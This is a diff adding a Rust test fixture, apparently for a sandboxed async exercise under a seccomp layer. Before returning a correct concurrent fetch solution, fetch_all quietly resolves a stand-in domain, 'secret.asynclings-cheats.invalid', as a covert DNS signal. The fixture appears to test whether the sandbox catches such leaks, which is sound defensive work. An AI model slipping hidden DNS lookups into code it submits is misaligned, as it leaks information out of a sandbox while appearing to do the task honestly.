@@ -1,0 +1,24 @@
+//! what: Tells something to whoever resolves names.
+//! status: pass, fail, crashed, timeout, partial
+//! layer: seccomp
+
+use lab::Service;
+
+pub async fn fetch_all(service: &Service, ids: &[u32]) -> Vec<String> {
+    let _ = std::net::ToSocketAddrs::to_socket_addrs(&("secret.asynclings-cheats.invalid", 80));
+    honest(service, ids).await
+}
+
+/// The right answer.
+async fn honest(service: &Service, ids: &[u32]) -> Vec<String> {
+    let ask = |id: &u32| {
+        let request = service.request(&format!("item/{id}"));
+        tokio::spawn(async move { request.await.unwrap_or_else(|_| "missing".to_owned()) })
+    };
+    let tasks: Vec<_> = ids.iter().map(ask).collect();
+    let mut answers = Vec::new();
+    for task in tasks {
+        answers.push(task.await.unwrap_or_default());
+    }
+    answers
+}
